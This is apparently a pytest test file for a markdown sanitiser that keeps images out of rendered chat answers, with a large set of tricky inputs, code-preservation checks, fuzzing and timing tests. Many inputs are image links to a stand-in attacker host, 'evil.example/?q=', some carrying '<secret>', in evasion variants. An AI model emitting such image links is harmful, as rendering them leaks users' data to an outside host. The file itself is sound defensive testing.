"""safe_markdown: no image survives (checked by a full markdown-it parse), code stays as typed."""

from __future__ import annotations

import random
import re
import statistics
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.token import Token

from aeries.safe_markdown import SafeMarkdown, has_image, image_sources, safe_markdown

# Independent, full parses (the module parses only the blocks that may hold an image). Like
# Streamlit, raw HTML is parsed but rendered as text. PARAS reads reference definitions as
# paragraph text, which gives CommonMark's (and Streamlit's micromark's) blocks around them.
MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
PARAS = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
PARAS.disable("reference")
for _rule in ("html_inline", "html_block"):
    MD.add_render_rule(_rule, lambda self, tokens, i, options, env: escapeHtml(tokens[i].content))


def images(text: str) -> list[str]:
    """Every image address either parse reads in ``text``."""

    def walk(tokens: list[Token]) -> list[str]:
        found: list[str] = []
        for token in tokens:
            if token.type == "image":
                found.append(str(token.attrs["src"]))
            found += walk(token.children or [])
        return found

    env: dict = {}
    return walk(MD.parse(text, env)) + walk(PARAS.parse(text, env))


def code(text: str) -> list[str]:
    """The content of every code block and code span, as the parser reads them."""
    found = []
    for token in MD.parse(text):
        if token.type in ("fence", "code_block"):
            found.append(token.content)
        found += [c.content for c in token.children or [] if c.type == "code_inline"]
    return found


E = "http://evil.example/?q="
# (input, the addresses that must be reported blocked)
TRICKY: list[tuple[str, tuple[str, ...] | None]] = [
    ("![](http://evil.example/?q=<secret>)", (f"{E}%3Csecret%3E",)),
    (f"Look: ![chart]({E}1) and ![chart]({E}1) again ![x]({E}2)", (f"{E}1", f"{E}2")),
    (f'![a]({E}t "a title")', (f"{E}t",)),
    (f"![a](<{E}angle bracket>)", (f"{E}angle%20bracket",)),
    (f"\\\\![x]({E}bs)", (f"{E}bs",)),  # an escaped backslash, then a real image
    (f"\\\\\\\\![x]({E}bs4)", (f"{E}bs4",)),
    ("\\![not an image](http://fine)", ()),
    (f"![x][ref]\n\n[ref]: {E}ref", (f"{E}ref",)),
    (f"![ref]\n\n[REF]: {E}short 'title'", (f"{E}short",)),
    (f"![ref][]\n\n> [ref]: {E}coll", (f"{E}coll",)),
    (f"[![a]({E}inlink)](http://href)", (f"{E}inlink",)),
    (f"[![a][r]](http://href)\n\n[r]: {E}inlinkref", (f"{E}inlinkref",)),
    (f"![outer ![inner]({E}in)]({E}out)", (f"{E}out", f"{E}in")),
    (f"| a | b |\n|---|---|\n| ![t]({E}cell) | `code` |\n", (f"{E}cell",)),
    (f"| a | b |\n|---|---|\n| `x | ![t]({E}split) ` | c |\n", (f"{E}split",)),
    (f"- one\n- ![l]({E}list)\n  1. ![n]({E}nested)", (f"{E}list", f"{E}nested")),
    (f"1. step\n\n    ![deep]({E}deep)", (f"{E}deep",)),
    (f"> quote ![q]({E}quote)\n> > ![qq]({E}quote2)", (f"{E}quote", f"{E}quote2")),
    (f"# Title ![h]({E}h1)\n\nSetext ![s]({E}h2)\n---", (f"{E}h1", f"{E}h2")),
    (f"**bold ![b]({E}bold)** _it ![i]({E}it)_ ~~![s]({E}strike)~~", None),
    (f"<b>bold</b>![a]({E}html) <span>![b]({E}span)</span>", (f"{E}html", f"{E}span")),
    ('<img src="http://evil.example/raw"> shown as text', ()),
    (f"<div>\n![x]({E}div)\n</div>", (f"{E}div",)),  # HTML block: not an image, escaped anyway
    (f"<http://a/`> ![x]({E}auto) `", (f"{E}auto",)),  # the backtick is inside an autolink
    (f"$a`b$ ![x]({E}math) `c`", (f"{E}math",)),  # Streamlit reads $…$ as math first
    (f"$$\n```\n$$\n![a]({E}mathblock)\n```\n", (f"{E}mathblock",)),
    (f"[a](/u`rl) ![b]({E}dest) `x`", (f"{E}dest",)),  # a destination hides its backtick
    (f"`a\nb` ![x]({E}multiline) `c`", (f"{E}multiline",)),
    (f'<a title="\n`"> ![a]({E}tagoverlines) `', (f"{E}tagoverlines",)),
    (f"    ```\n![x]({E}notfence)\n", (f"{E}notfence",)),  # indented code, not a fence
    (f"<div>\n```\n</div>\n\n![a]({E}htmlblock)\n```\n", (f"{E}htmlblock",)),
    (f"x\r\n```\r\n![a](b)\r\n```\r\n![c]({E}crlf)\r\n", (f"{E}crlf",)),
    (f"![a](\r\n{E}crdest)", (f"{E}crdest",)),
    (f"!!!!!![a]({E}bangs)!!!", (f"{E}bangs",)),
    ("text ends with ![", ()),
    ("![", ()),
    ("![unclosed [brackets ( ![ and ](", ()),
    (f"Ünïcødé ![日本語]({E}%E6%97%A5) 👋🏽 ![😀](http://évil.example/ü)", None),
    ("word " * 20_000 + f"![long]({E}long)", (f"{E}long",)),
    (f"![a]({E}adjacent)![b]({E}adjacent2)", (f"{E}adjacent", f"{E}adjacent2")),
    (f"![x](data:image/png;base64,{'A' * 6000})", (f"data:image/png;base64,{'A' * 6000}",)),
    (f"footnote[^1]\n\n[^1]: ![f]({E}foot)", (f"{E}foot",)),
    (f":red[![c]({E}colour)] :material/star: :smile:", (f"{E}colour",)),
    (f"see http://x.example `![not]({E}code)` and ![yes]({E}yes)", None),
]


@pytest.mark.parametrize(("text", "expected"), TRICKY)
def test_no_image_survives_and_blocked_lists_the_addresses(text, expected):
    result = safe_markdown(text)
    assert isinstance(result, SafeMarkdown)
    assert images(result.text) == []
    assert not has_image(result.text)
    assert "<img" not in MD.render(result.text)
    if expected is not None:
        assert result.blocked == expected
    # every image the parser reads in the input is reported
    assert set(images(text)) <= set(result.blocked)


def test_corpus_is_large_and_tricky():
    assert len(TRICKY) >= 30
    assert sum(bool(images(t)) for t, _ in TRICKY) >= 30


def test_an_image_becomes_bang_and_a_link():
    result = safe_markdown(f"Look ![the chart]({E}1) now")
    assert result.text == f"Look \\![the chart]({E}1) now"
    html = MD.render(result.text)
    assert f'!<a href="{E}1">the chart</a>' in html


def test_reference_image_becomes_bang_and_a_link():
    html = MD.render(safe_markdown(f"![x][r]\n\n[r]: {E}r").text)
    assert f'!<a href="{E}r">x</a>' in html


CODE = [
    "Use `![alt](url)` to add an image.",
    "Use ``a `![x](y)` b`` or ```![x](y)```.",
    "```markdown\n![alt](http://example.com/a.png)\n```\n\nThen ![real](http://e/1).",
    "~~~\n![x](y)\n~~~\n",
    "````md\n```\n![x](y)\n```\n````\n![z](http://e/2)",
    "  ```\n  ![indented fence](y)\n  ```",
    "```\nunclosed fence ![x](y)\nstill code ![z](w)",
    "1. In a list:\n\n   ```bash\n   echo '![x](y)'\n   ```\n\n2. Then ![real](http://e/3)",
    "| syntax | example |\n|---|---|\n| image | `![a](b)` |\n| link | `[a](b)` |",
    "`\\![x](y)` keeps its backslash; `\\\\![x](y)` too",
    "Mixed: `![a](b)` ![c](http://e/5) `![d](e)`\r\n```\r\n![f](g)\r\n```\r\n",
    "```python\ns = '![x](y)'  # $HOME {a} http://x\n```",
    "<span>`![x](y)`</span> and <http://auto.example/> `![z](w)`",
]


@pytest.mark.parametrize("text", CODE)
def test_code_is_kept_byte_for_byte(text):
    result = safe_markdown(text)
    assert images(result.text) == []
    assert code(result.text) == code(text)
    for span in re.findall(r"`[^`\n]*!\[[^`\n]*`", text):
        assert span in result.text


NORMAL = [
    "",
    "Hello! How can I help you today?",
    "# Title\n\nSome **bold**, *italic*, ~~struck~~ and `code`.\n",
    "1. one\n2. two\n   - nested [link](http://example.com)\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
    "```python\nprint('hi!')\n```\n",
    "Inline math $x^2 + y^2$ and display:\n\n$$\n\\int_0^1 x\\,dx\n$$\n",
    "Wow!! [not an image](http://x) ! [spaced]",
    "> quote\n>\n> more\n\n---\n\n<b>html</b> &amp; entities\r\n",
    "Already safe: \\![alt](http://e/1)",
    "a\\\\!b and ! [x] and !\n[y](z)",
]


@pytest.mark.parametrize("text", NORMAL)
def test_text_without_images_is_returned_identical(text):
    result = safe_markdown(text)
    assert result.text is text
    assert result.blocked == ()


@pytest.mark.parametrize(
    "text",
    [
        # the ``` is inside an HTML block, which ends at the blank line: the image is real
        f"<div>\n```\n</div>\n\n![x]({E}f)\n```\n",
        # the fence is in the list item, which the unindented line ends
        f"1. a\n   ```\nx ![x]({E}f)\n   ```\n",
        # to CommonMark (not markdown-it) "x" goes on the definition's paragraph, in the item
        f"-\n  [r]: /u\nx\n  ```\n- ![b]({E}f)\n",
    ],
)
def test_everything_is_escaped_when_the_scanner_is_fooled(text):
    # The scanner kept a "![" as code that the parser reads as an image: every "![" is
    # escaped, code included, and the result is still free of images.
    result = safe_markdown(text)
    assert result.text == text.replace("![", "\\![")
    assert result.blocked == (f"{E}f",)
    assert images(result.text) == []


@pytest.mark.parametrize(
    "text",
    [
        "- nested:\n    - deeper:\n\n        ```\n        ![x](y)\n        ```\n",
        "> ```\n> ![quoted code](y)\n> ```\n",
        "    ![indented code](y)\n",
        "`a` costs $5: `![x](y)`",
    ],
)
def test_code_parsers_may_read_differently_is_escaped(text):
    # Known limit: a fence nested deeper than 3 spaces or in a quote, indented code, or a span
    # after "$" (Streamlit's math) is not trusted as code: its "![" shows as "\\![".
    assert safe_markdown(text).text == text.replace("![", "\\![")


def test_core_module_does_not_import_streamlit():
    code = "import sys, aeries.safe_markdown; assert 'streamlit' not in sys.modules"
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).parents[1])


def test_image_sources_reads_the_original():
    assert image_sources(f"![a]({E}1) `![b](c)` ![d]({E}1)") == (f"{E}1",)


ALPHABET = (
    list("![]()`<>*_~#|\n :/\\$-\"'{}.=")
    + list("abxyz")
    + [
        "![",
        "](",
        "```",
        "\n\n",
        "http://e.example/",
        "[r]: ",
        "    ",
        "\r\n",
        "<a ",
        "é",
    ]
)


def random_texts(seed: int, count: int) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, 60))) for _ in range(count)]


def test_random_markdown_never_renders_an_image():
    for text in random_texts(20260511, 3000):
        result = safe_markdown(text)
        assert images(result.text) == [], text
        assert all(isinstance(src, str) for src in result.blocked)
        again = safe_markdown(result.text)
        assert again.text == result.text, text


@pytest.mark.parametrize("text", [t for t, _ in TRICKY] + CODE + NORMAL)
def test_second_pass_renders_the_same(text):
    once = safe_markdown(text).text
    twice = safe_markdown(once).text
    assert MD.render(twice) == MD.render(once)
    assert twice == once


def _median_ms(text: str, runs: int) -> float:
    safe_markdown(text)
    times = []
    for _ in range(runs):
        start = time.perf_counter()
        safe_markdown(text)
        times.append((time.perf_counter() - start) * 1000)
    return statistics.median(times)


def test_fast_enough_for_every_redraw_of_a_100kb_answer():
    block = (
        "## Heading\n\nSome **bold** text, a [link](http://x.y/z), `code` and $x^2$. " * 3
        + "\n\n- item\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n\n"
    )
    plain = (block * 400)[:100_000]
    assert _median_ms(plain, 50) < 2  # measured ~0.1 ms
    one = plain[:50_000] + f"\n\n![x]({E}1)\n\n" + plain[50_000:]
    assert _median_ms(one, 20) < 20  # measured ~1.5 ms
